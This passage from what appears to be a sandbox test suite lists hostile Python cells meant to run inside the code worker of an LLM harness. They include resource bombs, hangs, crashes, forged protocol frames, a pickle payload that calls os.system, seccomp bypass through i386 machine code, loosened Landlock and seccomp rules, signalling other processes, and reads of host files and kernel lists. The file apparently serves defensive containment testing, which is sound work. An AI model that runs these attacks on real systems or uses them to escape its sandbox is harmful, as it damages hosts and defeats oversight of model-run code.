attack(
    'bombs',
    'output',
    'prints 1 GB',
    '''
for _ in range(1000): print('x' * 1_000_000)
''',
    open_in=(),
    timeout=15,
    gentle=True,
)
attack(
    'bombs',
    'raw_output',
    'writes 1 GB to the descriptors 1 and 2',
    '''
for descriptor in (1, 2):
    for _ in range(500): attempt(os.write, descriptor, b'x' * 1_000_000)
''',
    open_in=('local',),
    timeout=15,
    vain='it goes to the terminal of the user, and a test has none',
    gentle=True,
)
attack(
    'bombs',
    'endless_output',
    'prints without end',
    '''
while True: print('x' * 1000)
''',
    ends=False,
    open_in=(),
    timeout=1.0,
    gentle=True,
)
attack(
    'bombs',
    'huge_value',
    'ends with a value whose repr is 500 MB, and raises an error as long',
    '''
class Long:
    def __repr__(self): return 'x' * 500_000_000
first = Long()
first
''',
    open_in=(),
    timeout=60,
)
attack(
    'bombs',
    'many_variables',
    'makes 20,000 variables with names of 1,000 characters',
    '''
for number in range(20_000): globals()['v' * 1000 + str(number)] = 'x' * 1000
''',
    open_in=(),
)
attack(
    'bombs',
    'long_error',
    'raises an error with a message of 200 MB',
    '''
raise ValueError('x' * 200_000_000)
''',
    open_in=(),
    gentle=True,
)
attack(
    'bombs',
    'subcalls',
    'asks for 5,000 sub-calls in threads and as one batch',
    '''
replies = llm_query_batched(['x'] * 4000)
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(32) as pool: replies += list(pool.map(llm_query, ['x'] * 1000))
print(len(replies))
''',
    open_in=(),
    gentle=True,
)
attack(
    'bombs',
    'large_subcalls',
    'asks 24 sub-calls of 5 MB each',
    '''
for _ in range(3): attempt(llm_query_batched, ['x' * 5_000_000] * 8)
''',
    open_in=(),
    timeout=60,
    gentle=True,
)

# --- cells that do not end ---

HELD_BY_ALL_BUT_LOCAL = dict(open_in=('local',), timeout=0.6)
attack('hangs', 'endless_loop', 'loops for ever', 'while True: pass', open_in=(), timeout=0.6, gentle=True)
attack(
    'hangs',
    'swallowed_interrupts',
    'catches every exception and goes on',
    '''
while True:
    try:
        while True: pass
    except BaseException: pass
''',
    **HELD_BY_ALL_BUT_LOCAL,
    vain='an interrupt may come between two lines',
)
attack(
    'hangs',
    'ignored_signals',
    'ignores every signal that can be ignored',
    '''
for number in range(1, 65): libc.signal(number, 1)
while True:
    try: time.sleep(1000)
    except BaseException: pass
''',
    **HELD_BY_ALL_BUT_LOCAL,
)
attack(
    'hangs',
    'blocked_signals',
    'blocks all signals and waits in C',
    '''
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
libc.pause()
''',
    **HELD_BY_ALL_BUT_LOCAL,
)
attack('hangs', 'sleep', 'sleeps in C', 'time.sleep(1000)', **HELD_BY_ALL_BUT_LOCAL)
attack(
    'hangs',
    'pause_with_lock',
    "waits in C with Python's lock held, so that no thread of the process can run",
    'ctypes.PyDLL(None).pause()',
    **HELD_BY_ALL_BUT_LOCAL,
)
attack('hangs', 'long_c_call', "computes in C with Python's lock held", 'sum(range(10**13))', **HELD_BY_ALL_BUT_LOCAL)
attack('hangs', 'huge_number', 'computes a number that has no end', 'value = 9 ** 9 ** 9', **HELD_BY_ALL_BUT_LOCAL)
attack(
    'hangs',
    'regex',
    'matches a regular expression that takes ages',
    '''
import re
re.match('(a+)+$', 'a' * 60 + 'b')
''',
    **HELD_BY_ALL_BUT_LOCAL,
)
attack(
    'hangs',
    'deadlock',
    'waits for a lock that it holds',
    '''
lock = threading.Lock()
lock.acquire()
lock.acquire()
''',
    **HELD_BY_ALL_BUT_LOCAL,
)
attack(
    'hangs',
    'endless_repr',
    'ends with a value whose repr does not end',
    '''
class Endless:
    def __repr__(self):
        while True: pass
Endless()
''',
    open_in=(),
    timeout=0.6,
    gentle=True,
)
attack(
    'hangs',
    'endless_variable',
    'leaves a variable whose length, type name and attributes do not end',
    '''
class Endless:
    def __len__(self):
        while True: pass
    def __getattr__(self, name):
        while True: pass
    __class__ = property(lambda self: self.__len__())
trouble = Endless()
''',
    open_in=(),
    timeout=0.6,
    fetch=('trouble',),
)
attack(
    'hangs',
    'endless_await',
    'awaits what never comes',
    '''
import asyncio
await asyncio.get_running_loop().create_future()
''',
    open_in=(),
    timeout=0.6,
    gentle=True,
)
attack(
    'hangs',
    'busy_threads',
    'leaves threads that compute for ever',
    '''
def spin():
    while True: pass
for _ in range(4): threading.Thread(target=spin, daemon=True).start()
''',
    open_in=('local',),
)
attack(
    'hangs',
    'stopped',
    'stops itself with SIGSTOP',
    '''
os.kill(os.getpid(), signal.SIGSTOP)
while True: pass
''',
    **HELD_BY_ALL_BUT_LOCAL,
)

# --- crashes ---

attack('crashes', 'exit', 'ends its process at once', 'os._exit(0)', open_in=IN_PROCESS)
attack('crashes', 'segfault', 'reads address 0', 'ctypes.string_at(0)', open_in=IN_PROCESS)
attack('crashes', 'abort', 'aborts, which would leave a core file', 'os.abort()', open_in=IN_PROCESS)
attack(
    'crashes',
    'stack',
    'recurs until the stack of C is full',
    '''
sys.setrecursionlimit(10**9)
class Deep:
    def __repr__(self): return repr(self)
repr(Deep())
''',
    timeout=4,
    open_in=IN_PROCESS,
    vain='newer versions of Python guard their stack',
)
attack(
    'crashes',
    'closed_descriptors',
    'closes all descriptors',
    '''
os.closerange(0, 4096)
''',
    timeout=4,
    open_in=IN_PROCESS,
)
attack(
    'crashes',
    'replaced_descriptors',
    'puts /dev/null in place of all descriptors',
    '''
nothing = os.open('/dev/null', os.O_RDWR)
for descriptor in pipes(): os.dup2(nothing, descriptor)
''',
    timeout=4,
    open_in=IN_PROCESS,
    ends=False,
)
attack(
    'crashes',
    'system_exit',
    'raises SystemExit, KeyboardInterrupt and GeneratorExit, also in threads',
    '''
for error in (SystemExit, KeyboardInterrupt, GeneratorExit):
    def fail(error=error): raise error
    thread = threading.Thread(target=fail)
    thread.start()
    thread.join()
sys.exit(3)
''',
    open_in=(),
)
attack(
    'crashes',
    'alarm',
    'sets a timer that kills its process after the cell',
    '''
signal.setitimer(signal.ITIMER_REAL, 0.001)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.001)
''',
    open_in=IN_PROCESS,
)
attack(
    'crashes',
    'no_modules',
    'empties sys.modules, sys.path and the namespace',
    '''
sys.modules.clear()
sys.path.clear()
for name in list(globals()):
    if name != 'kept': del globals()[name]
''',
    open_in=(),
)

# --- lies to the host ---

attack(
    'lies',
    'patched_builtins',
    'replaces builtins, json and struct',
    '''
import builtins, json, struct as packing
def evil(*arguments, **named): raise SystemError('evil')
for name in (
    'len', 'print', 'isinstance', 'repr', 'str', 'open', 'type', 'getattr', 'iter', 'sorted', 'compile', 'exec', 'eval'
): setattr(builtins, name, evil)
json.dumps = json.loads = json.JSONEncoder.encode = json.JSONDecoder.decode = evil
packing.pack = packing.unpack = evil
''',
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'patched_worker',
    'replaces every function of the loaded modules of the worker',
    '''
import types
def evil(*arguments, **named): return {'id': {}, 'op': 'done', 'cell': 7}
for name, module in list(sys.modules.items()):
    if name != '__main__' and not name.startswith('rlm'): continue
    for key, value in list(vars(module).items()):
        if isinstance(value, types.FunctionType) and value.__module__ == name: setattr(module, key, evil)
        if isinstance(value, type) and value.__module__ == name:
            for method, function in list(vars(value).items()):
                if isinstance(function, types.FunctionType): attempt(setattr, value, method, evil)
''',
    timeout=4,
    ends=False,
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'forged_done',
    'sends results of its own with wrong types',
    '''
lies = [None, 5, [], 'x', [1] * 10, {'a': {}}, -1, 1e308, True, '\\ud800', 2**70]
for descriptor in pipes():
    for number in range(12):
        for lie in lies:
            for message in (
                dict(op='done', id=number, cell=lie, variables=lie, answer=lie),
                dict(op='done', id=lie, cell=dict(
                    code=lie, stdout=lie, stderr=lie, value=lie, error=lie, seconds=lie, calls=lie, final=lie, notes=lie
                ), variables={'x': lie}, answer=lie),
                lie,
                [message for message in 'ab'],
            ):
                attempt(write_all, descriptor, frame(message))
''',
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'forged_answer',
    'sends a well-formed result of its own, then goes on for ever',
    '''
for descriptor in pipes():
    for number in range(50): attempt(write_all, descriptor, frame(dict(op='done', id=number, cell=dict(
        code='', stdout='forged', stderr='', value=None, error=None, seconds=0, calls=0,
        final=dict(value='forged', source='FINAL'), notes=[],
    ), variables={}, answer=None)))
time.sleep(1000)
''',
    ends=False,
    open_in=(),
    timeout=0.6,
)
attack(
    'lies',
    'forged_calls',
    'asks for sub-calls with wrong types, unknown kinds and operations',
    '''
lies = [None, 5, [], 'x', [None], [[]], {'a': 1}, ['x', 3], -1, 'ret', '../x']
for descriptor in pipes():
    for lie in lies:
        for message in (
            dict(op='call', id=lie, kind=lie, prompts=lie, model=lie, contexts=lie),
            dict(op='call', id=7, kind='llm', prompts=['x'], model=lie, contexts=lie),
            dict(op='call', id=7, kind='exec', prompts=['x'], model=None, contexts=None),
            dict(op=lie), dict(op='ready', version=lie), dict(op='ret', id=lie), dict(op='exec', id=1, code='1'),
            {}, lie,
        ):
            attempt(write_all, descriptor, frame(message))
''',
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'oversized_frame',
    'announces a frame of 4 GB',
    '''
for descriptor in pipes(): attempt(write_all, descriptor, b'\\xff\\xff\\xff\\xff' + b'x' * 100_000)
''',
    timeout=4,
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'large_frame',
    'sends a frame of 20 MB of nested lists',
    '''
data = b'[' * 20_000_000
for descriptor in pipes(): attempt(write_all, descriptor, struct.pack('>I', len(data)) + data)
''',
    open_in=IN_PROCESS,
    timeout=10,
)
attack(
    'lies',
    'garbage',
    'sends what is no frame',
    '''
for data in (
    b'\\0\\0\\0\\0', b'\\0\\0\\0\\5hello', b'\\0\\0\\0\\4\\xff\\xfe\\xfd\\xfc', b'\\0\\0\\0\\3NaN',
    b'\\0\\0\\x20\\0' + b'9' * 8192,
):
    for descriptor in pipes(): attempt(write_all, descriptor, data)
''',
    timeout=4,
    open_in=IN_PROCESS,
)
attack(
    'lies',
    'half_a_frame',
    'sends the beginning of a frame and then nothing',
    '''
for descriptor in pipes(): attempt(write_all, descriptor, b'\\0\\1\\0\\0{"op": "done", ')
time.sleep(1000)
''',
    ends=False,
    **HELD_BY_ALL_BUT_LOCAL,
)
attack(
    'lies',
    'flood',
    'floods the host with 300,000 calls and frames',
    '''
message = frame(dict(op='call', id=9999, kind='llm', prompts=['x'], model=None, contexts=None)) * 100
for descriptor in pipes():
    try:
        for _ in range(3000): write_all(descriptor, message)
    except OSError: pass
''',
    ends=False,
    open_in=(),
    timeout=3,
)
attack(
    'lies',
    'pickle',
    'submits and leaves objects that run code where they are unpickled',
    '''
class Evil:
    def __reduce__(self): return (os.system, ('touch ' + os.path.join(trap['folders'][0], trap['new_file']),))
evil = Evil()
FINAL(evil)
''',
    open_in=(),
    fetch=('evil', 'answer'),
)
attack(
    'lies',
    'reader_that_stops',
    'stops reading, so that what the host sends must wait',
    '''
import subprocess
for thread in threading.enumerate(): print(thread.name)
def stop():
    time.sleep(0.05)
    os.kill(os.getpid(), signal.SIGSTOP)
threading.Thread(target=stop, daemon=True).start()
''',
    open_in=IN_PROCESS,
    timeout=2,
    give=True,
)

# --- the kernel ---

attack(
    'kernel',
    'system_calls',
    'tries system calls that only the host needs: bpf, perf, userfaultfd, modules, kexec, keys, reboot',
    '''
room = ctypes.create_string_buffer(4096)
calls = dict(
    bpf=(0, room, 8), perf_event_open=(room, 0, -1, -1, 0), kexec_load=(0, 0, None, 1 << 30),
    init_module=(None, 0, b''), finit_module=(-1, b'', 0), swapon=(b'/nonexistent', 0), reboot=(1, 2, 3, None),
    fanotify_init=(0, 0), fsopen=(b'no-such-system', 0), quotactl=(0, None, 0, None), keyctl=(0, -3, 0, 0, 0),
)
for name, arguments in calls.items():
    ctypes.set_errno(0)
    if syscall(name, *arguments) >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.EACCES, errno.ENOSYS):
        escaped(name, errno.errorcode.get(ctypes.get_errno()))
''',
    needs_root=True,
)
attack(
    'kernel',
    'faults',
    'handles page faults itself, which makes flaws of the kernel easier to use',
    '''
if syscall('userfaultfd', 0) >= 0: escaped('userfaultfd')
''',
    needs_root=True,
    vain='the kernel has no userfaultfd',
)
attack(
    'kernel',
    'machine_code',
    'makes 32-bit system calls with machine code of its own, past a filter for 64 bits',
    '''
import mmap
if platform.machine() == 'x86_64':
    # unshare(CLONE_NEWUSER) of i386
    code = b'\\x53\\xbb\\x00\\x00\\x00\\x10\\xb8\\x36\\x01\\x00\\x00\\xcd\\x80\\x5b\\xc3'
    room = mmap.mmap(-1, 4096, prot=7)
    room.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))
    child = attempt(os.fork)
    if child == 0: os._exit(0 if call() == 0 else 1)
    result = os.waitpid(child, 0)[1] if child else call()
    if result == 0: escaped('32-bit system calls')
''',
    timeout=4,
    vain='the kernel has no 32-bit system calls',
)
attack(
    'kernel',
    'x32',
    'makes system calls by their x32 numbers',
    '''
if platform.machine() == 'x86_64':
    found = libc.syscall(0x40000000 + 41, 16, 3, 0)
    if found >= 0: escaped('x32 system calls')
''',
    timeout=4,
    vain='the kernel has no x32 system calls',
)
attack(
    'kernel',
    'host_name',
    'changes the name of the machine and the clock',
    '''
import socket as names
if libc.sethostname(trap['mark'].encode(), len(trap['mark'])) == 0 and trap['contained'] is False:
    libc.sethostname(trap['host_name'].encode(), len(trap['host_name']))
    escaped('the name of the machine')
now = time.clock_gettime(time.CLOCK_REALTIME)
if libc.clock_adjtime is not None and attempt(time.clock_settime, time.CLOCK_REALTIME, now) is None:
    try:
        time.clock_settime(time.CLOCK_REALTIME, time.clock_gettime(time.CLOCK_REALTIME))
        escaped('the clock')
    except OSError: pass
''',
    needs_root=True,
)

# --- what fell once: see the page "What is contained, and what is not" ---

attack(
    'network',
    'datagram_pair',
    'sends a datagram to a path of the host from one half of a socket pair',
    '''
for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    left, right = attempt(socket.socketpair, socket.AF_UNIX, kind) or (None, None)
    if left:
        attempt(left.sendto, b'secret', trap['datagram'])
        attempt(left.sendmsg, [b'secret'], [], 0, trap['datagram'])
''',
)
attack(
    'network',
    'reconnected_pair',
    'connects one half of a socket pair to servers of the host',
    '''
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    for path in (*trap['unix'], trap['datagram'], '\\0' + trap['abstract'], '\\0' + trap['abstract'] + '-datagram'):
        left, right = attempt(socket.socketpair, socket.AF_UNIX, kind) or (None, None)
        if left and attempt(left.connect, path) is None: attempt(left.send, b'secret')
''',
)
attack(
    'network',
    'own_socket',
    'connects and binds the socket that leads to the host',
    '''
for descriptor in pipes():
    try: sock = socket.socket(fileno=os.dup(descriptor))
    except OSError: continue
    for path in (*trap['unix'], trap['datagram'], '\\0' + trap['abstract']):
        try: sock.connect(path)
        except OSError: continue
        escaped('connected to', path)
''',
    open_in=(),
)
attack(
    'network',
    'families',
    'opens sockets of families that a network namespace does not hold: AF_ALG, AF_VSOCK, CAN, Bluetooth and others',
    '''
for family in range(17, 46):
    for kind in (1, 2, 3, 5):
        opened = attempt(socket.socket, family, kind, 0)
        if opened: escaped('socket of family', family)
''',
    vain='the kernel has none of them',
)
attack(
    'processes',
    'signal_of_pipe',
    'lets a pipe send SIGKILL to another process of the user (F_SETOWN, F_SETSIG, O_ASYNC)',
    '''
import fcntl
reader, writer = os.pipe()
attempt(fcntl.fcntl, reader, fcntl.F_SETOWN, trap['victim'])
attempt(fcntl.fcntl, reader, 10, signal.SIGKILL)
attempt(fcntl.fcntl, reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(writer, b'x')
''',
)
attack(
    'processes',
    'signal_of_pipe_by_kind',
    'the same by F_SETOWN_EX, for a process and for a group of processes',
    '''
import fcntl
for kind, number in ((1, trap['victim']), (2, trap['victim']), (0, trap['victim'])):
    reader, writer = os.pipe()
    attempt(fcntl.fcntl, reader, 15, struct.pack('=ii', kind, number))
    attempt(fcntl.fcntl, reader, 10, signal.SIGKILL)
    attempt(fcntl.fcntl, reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b'x')
''',
)
attack(
    'processes',
    'signal_of_socket',
    'lets a socket send SIGIO to another process of the user (FIOSETOWN, SIOCSPGRP, FIOASYNC)',
    '''
import fcntl
for request in (0x8901, 0x8902):
    left, right = socket.socketpair()
    attempt(fcntl.ioctl, left, request, struct.pack('i', trap['victim']))
    attempt(fcntl.ioctl, left, 0x5452, struct.pack('i', 1))
    right.send(b'x')
''',
)
attack(
    'processes',
    'limits_of_others',
    'sets limits of another process of the user',
    '''
import resource
before = resource.prlimit(trap['victim'], resource.RLIMIT_NOFILE)
resource.prlimit(trap['victim'], resource.RLIMIT_NOFILE, before)
escaped('set a limit of', trap['victim'])
''',
)
attack(
    'processes',
    'processors_of_others',
    'says on which processors another process of the user may run',
    '''
found = os.sched_getaffinity(trap['victim'])
os.sched_setaffinity(trap['victim'], found)
escaped('moved', trap['victim'])
''',
)
attack(
    'processes',
    'niceness_of_others',
    'slows another process of the user down',
    '''
os.setpriority(os.PRIO_PROCESS, trap['victim'], os.getpriority(os.PRIO_PROCESS, trap['victim']))
escaped('set the priority of', trap['victim'])
''',
)
attack(
    'processes',
    'victim_of_memory',
    'makes another process of the user the first that is killed when memory runs out',
    '''
with open(f"/proc/{trap['victim']}/oom_score_adj", 'r+') as file:
    before = file.read()
    file.seek(0)
    file.write(before)
escaped('changed', trap['victim'])
''',
)
attack(
    'files',
    'truncate_by_path',
    'changes the length of a file of the host without opening it',
    '''
for path in trap['secret_files']:
    os.truncate(path, os.path.getsize(path))
    escaped('set the length of', path)
''',
)
attack(
    'files',
    'times_and_modes',
    'changes times, modes and attributes of files of the host',
    '''
for path in trap['secret_files']:
    about = os.stat(path)
    for change in (
        lambda: os.utime(path, ns=(about.st_atime_ns, about.st_mtime_ns)),
        lambda: os.chmod(path, about.st_mode & 0o777),
        lambda: os.chown(path, about.st_uid, about.st_gid),
        lambda: os.setxattr(path, 'user.rlm', b'x'),
    ):
        try: change()
        except OSError: continue
        escaped('changed', path)
''',
)
attack(
    'files',
    'watch',
    'watches what other programs do in the home of the user',
    '''
watch = libc.inotify_init()
for path in (trap['home'], *trap['secret_files']):
    if syscall('inotify_add_watch', watch, path.encode(), 0xFFF) >= 0: escaped('watches', path)
os.close(watch)
''',
)
attack(
    'files',
    'rename',
    'moves a file of the host away',
    '''
for path in trap['secret_files']:
    os.rename(path, path + '.moved')
    os.rename(path + '.moved', path)
    escaped('moved', path)
''',
)
attack(
    'files',
    'special_files',
    'makes pipes, devices and sockets in folders of the host',
    '''
for folder in trap['folders']:
    path = os.path.join(folder, trap['new_file'])
    attempt(os.mkfifo, path)
    attempt(os.mknod, path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    pair = socket.socketpair()
    attempt(pair[0].bind, path)
''',
)
attack(
    'files',
    'unnamed_files',
    'makes files without a name in folders of the host, and gives them one',
    '''
for folder in trap['folders']:
    if folder in ('/', '/tmp', '/dev/shm') and trap['contained']: continue
    made = attempt(os.open, folder, os.O_TMPFILE | os.O_RDWR)
    if made is None: continue
    os.write(made, b'here')
    libc.linkat(-100, f'/proc/self/fd/{made}'.encode(), -100, os.path.join(folder, trap['new_file']).encode(), 0x400)
    os.close(made)
''',
)
attack(
    'files',
    'reopened_paths',
    'opens a path without rights (O_PATH), and that again with rights',
    '''
for path in trap['secret_files']:
    for start, name in ((None, path), (attempt(os.open, os.path.dirname(path), os.O_PATH), os.path.basename(path))):
        if start is None and name != path: continue
        try: found = os.open(name, os.O_PATH, dir_fd=start)
        except OSError: continue
        for again in (f'/proc/self/fd/{found}', f'/dev/fd/{found}', f'/proc/thread-self/fd/{found}'):
            print(attempt(read, again))
''',
)
attack(
    'files',
    'devices',
    'opens devices of the host',
    '''
names = (
    'kvm fuse net/tun uinput loop-control mapper/control vhost-net vhost-vsock cuse ppp snd/seq input/event0 hpet '
    'cpu_dma_latency mcelog nvram rtc0 watchdog'
).split()
for name in names:
    try: os.close(os.open('/dev/' + name, os.O_RDWR))
    except OSError: continue
    escaped('opened', name)
''',
    needs_root=True,
    vain='the machine has none of them',
)
attack(
    'secrets',
    'maps_of_host',
    'reads where the host has its memory, its working folder and its program',
    '''
for process in (trap['host'], os.getppid(), trap['victim']):
    if process < 2: continue
    for name in ('maps', 'stat', 'status', 'cmdline', 'wchan', 'mountinfo'):
        if trap['contained'] and process == os.getppid(): continue
        if attempt(read, f'/proc/{process}/{name}'): escaped('read', name)
''',
)
attack(
    'secrets',
    'objects',
    'looks for keys among the objects of its own process',
    '''
import gc
for each in gc.get_objects():
    if type(each) is dict:
        for value in list(each.values()):
            if type(value) in (str, bytes) and trap['key_start'] in str(value)[:60]: print(value)
''',
    open_in=IN_PROCESS,
    vain='the host keeps its keys in the environment alone',
)
attack(
    'bombs',
    'socket_buffers',
    'fills socket pairs with enlarged buffers, which no limit of the process counts',
    '''
total, pairs = 0, []
try:
    for _ in range(600):
        pair = socket.socketpair()
        pairs.append(pair)
        for one in pair:
            attempt(one.setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
            one.setblocking(False)
            while True:
                try: total += one.send(b'x' * 2**17)
                except BlockingIOError: break
        if total > 400_000_000: break
except OSError as error: print(error)
for pair in pairs: pair[0].close(), pair[1].close()
if total > 300_000_000: escaped(total, 'bytes in sockets')
''',
    timeout=20,
    vain='the kernel allows no larger buffers',
    bomb=True,
)
attack(
    'bombs',
    'stashed_descriptors',
    'keeps more descriptors than it may by sending them to itself',
    '''
import array
stashed, pairs = 0, []
try:
    for _ in range(100):
        left, right = socket.socketpair()
        pairs.append((left, right))
        left.setblocking(False)
        for _ in range(40):
            inner = socket.socketpair()
            both = array.array('i', [inner[0].fileno(), inner[1].fileno()])
            left.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, both)])
            inner[0].close(), inner[1].close()
            stashed += 2
except OSError as error: print(error)
for pair in pairs: pair[0].close(), pair[1].close()
if stashed > 3000: escaped(stashed, 'descriptors')
''',
    vain='the user has a lower limit',
    bomb=True,  # the kernel counts them for the user: others could not send descriptors meanwhile
)
FORGED = '''
def forge(text):
    data = text if isinstance(text, bytes) else text.encode()
    for descriptor in pipes(): attempt(write_all, descriptor, struct.pack('>I', len(data)) + data)
def done(value, number):
    return ('{"op":"done","id":%d,"variables":{},"names":[],"answer":null,"cell":{"stdout":"","stderr":"","value":null,'
        '"error":null,"notes":[],"final":{"source":"FINAL","value":%s}}}' % (number, value))
'''
attack(
    'lies',
    'equal_hashes',
    'sends sets and dicts of numbers that have the same hash',
    FORGED
    + '''
numbers = ','.join(str(number * (2**61 - 1)) for number in range(1, 36_000))
pairs = ','.join('[%d,1]' % (number * (2**61 - 1)) for number in range(1, 30_000))
for number in range(12):
    forge(done('{"$":"set","parts":[%s]}' % numbers, number))
    forge(done('{"$":"dict","parts":[%s]}' % pairs, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'deep_values',
    'sends lists that are nested 900 deep',
    FORGED
    + '''
for number in range(12):
    forge(done('[' * 900 + ']' * 900, number))
    forge(done('{"$":"tuple","parts":[' * 450 + '1' + ']}' * 450, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'colliding_answer',
    'submits an answer whose keys collide in the host and not in itself',
    '''
class Colliding(set):
    def __iter__(self): return iter([number * (2**61 - 1) for number in range(1, 36_000)])
    def __len__(self): return 36_000
FINAL(Colliding())
''',
    open_in=(),
    timeout=4,
    ends=False,
    vain='it hurts the host alone',
)
attack(
    'lies',
    'forged_searches',
    'asks the host for 3,000 searches and functions at once',
    FORGED
    + '''
for number in range(3000):
    forge('{"op":"call","id":%d,"kind":"%s","query":"run","k":5,"name":"x","args":[],"kwargs":{}}' % (
        10**6 + number, ('search', 'tool')[number % 2]))
''',
    open_in=(),
    timeout=6,
    ends=False,
)
attack(
    'kernel',
    'newer_calls',
    'makes system calls that are newer than the filter',
    '''
for number in range(463, 520):
    ctypes.set_errno(0)
    libc.syscall(number, *[ctypes.c_long(-1)] * 6)
    if ctypes.get_errno() not in (errno.ENOSYS, errno.EPERM): escaped('system call', number)
''',
    vain='the kernel has no newer calls',
)
attack(
    'kernel',
    'another_filter',
    'puts on a filter that allows everything',
    '''
class Program(ctypes.Structure): _fields_ = [('length', ctypes.c_ushort), ('code', ctypes.c_char_p)]
allow = struct.pack('=HBBI', 6, 0, 0, 0x7FFF0000)
libc.prctl(38, 1, 0, 0, 0)
libc.prctl(22, 2, ctypes.byref(Program(1, allow)), 0, 0)
opened = attempt(os.memfd_create, 'x')
if opened is not None: escaped('memory without a limit')
''',
    gentle=False,
)
attack(
    'kernel',
    'another_ruleset',
    'puts on a ruleset of Landlock that allows all files',
    '''
handled = struct.pack('=Q', 1 << 0)
made = syscall('landlock_create', handled, 8, 0)
libc.prctl(38, 1, 0, 0, 0)
if made >= 0: syscall('landlock_restrict', made, 0)
for path in trap['secret_files']: print(attempt(read, path))
''',
    gentle=False,
)
attack(
    'kernel',
    'personality',
    'switches off the random places of memory, and asks for those of old programs',
    '''
for wanted in (0x0040000, 0x0400000, 0x0008):
    before = libc.personality(0xFFFFFFFF)
    if libc.personality(wanted) != -1:
        libc.personality(before)
        escaped('personality', hex(wanted))
''',
)

# --- what the kernel counts for all programs of a user, and values that take the host long ---

attack(
    'bombs',
    'watchers',
    'uses up the 128 watchers of files (inotify) that all programs of the user share',
    '''
made = [found for found in (libc.inotify_init() for _ in range(100)) if found >= 0]
for found in made: os.close(found)
if len(made) > 90: escaped(len(made), 'watchers')
''',
    vain='the user has a lower limit',
)
attack(
    'bombs',
    'pending_signals',
    'uses up the timers and signals under way that all programs of the user share',
    '''
room = ctypes.create_string_buffer(8)
count = 0
while count < 5000 and syscall('timer_create', 1, None, room) == 0: count += 1
if count > 4000: escaped(count, 'timers')
''',
    vain='the user has a lower limit',
)
attack(
    'bombs',
    'file_locks',
    'takes locks on the files that all workers share, so that other programs wait',
    '''
import fcntl
package = trap['libraries'][0]
for path in (*trap['secret_files'], *[os.path.join(package, name) for name in attempt(os.listdir, package) or []]):
    found = attempt(os.open, path, os.O_RDWR)
    if found is not None and attempt(fcntl.lockf, found, fcntl.LOCK_EX | fcntl.LOCK_NB) is None: escaped('locked', path)
''',
)
attack(
    'secrets',
    'kernel_lists',
    'reads from lists of the kernel which sockets, keys and addresses the machine has',
    '''
marks = [trap['key_name'], trap['abstract'], *trap['unix'], ':%04X ' % trap['tcp']]
for name in ('keys', 'net/unix', 'net/tcp', 'net/udp', 'mountinfo', 'locks'):
    text = attempt(read, '/proc/' + name, 1_000_000) or ''
    if any(mark in text for mark in marks): escaped('read', name)
for line in (attempt(read, '/proc/kallsyms', 1000) or '').splitlines():
    if line.split()[0].strip('0'): escaped('read where the kernel is')
''',
)
attack(
    'network',
    'netlink',
    'asks the kernel for addresses and routes of the machine, and for its audit log',
    '''
for protocol in (0, 4, 6, 9, 12, 15, 16):
    sock = attempt(socket.socket, 16, socket.SOCK_RAW, protocol)
    if not sock: continue
    attempt(sock.bind, (0, 0))
    sock.settimeout(0.5)
    attempt(sock.sendto, struct.pack('=IHHIIBxxxI', 24, 18, 0x301, 1, 0, 0, 0) + bytes(8), (0, 0))
    answer = attempt(sock.recv, 65536) or b''
    for name in trap['interfaces']:
        if name.encode() + b'\\0' in answer: escaped('saw the interface', name)
''',
    vain='the machine has no interface but loopback',
)
attack(
    'lies',
    'long_fraction',
    'submits a fraction and a decimal that take hours to calculate',
    FORGED
    + '''
for number in range(12):
    forge(done('{"$":"Fraction","parts":"1e999999999"}', number))
    forge(done('{"$":"set","parts":[{"$":"Decimal","parts":"1e999999999999999999"},{"$":"Decimal","parts":"1e-999999"}]}',
        number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'numbers_beyond_limits',
    'submits durations, arrays and tables with numbers that no such value can have',
    FORGED
    + '''
for number in range(12):
    for value in ('{"$":"timedelta","parts":[1e999,1,1]}', '{"$":"timedelta","parts":[%d,1,1]}' % 10**300,
        '{"$":"array","parts":["<f8",[%d],""]}' % 10**40, '{"$":"frame","parts":[null,1e999,[],null]}',
        '{"$":"series","parts":[null,["Int64",[%d]],null]}' % 10**40, '{"$":"complex","parts":"1e999j"}'):
        forge(done(value, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'colliding_categories',
    'submits a table whose categories have the same hash, which takes pandas minutes',
    FORGED
    + '''
numbers = ','.join(str(number * (2**61 - 1)) for number in range(1, 30_000))
for number in range(12): forge(done('{"$":"series","parts":[null,["category",[%s]],null]}' % numbers, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
)
attack(
    'lies',
    'dates_in_words',
    'submits a table of dates in words, each of which takes pandas a tenth of a millisecond',
    FORGED
    + '''
words = ','.join(['"3rd of January 2001 at 3pm"'] * 300_000)
for number in range(12): forge(done('{"$":"series","parts":[null,["datetime64[ns]",[%s]],null]}' % words, number))
''',
    open_in=IN_PROCESS,
    timeout=4,
    ends=False,
    vain='where host and worker are one, nobody may read it',
)
attack(
    'lies',
    'alike_keys',
    'submits a set of tuples that have the same hash and differ only at their ends',
    FORGED
    + '''
start = ','.join('"%d"' % number for number in range(900))
keys = ','.join('{"$":"tuple","parts":[%s,%d]}' % (start, number * (2**61 - 1)) for number in range(1, 500))
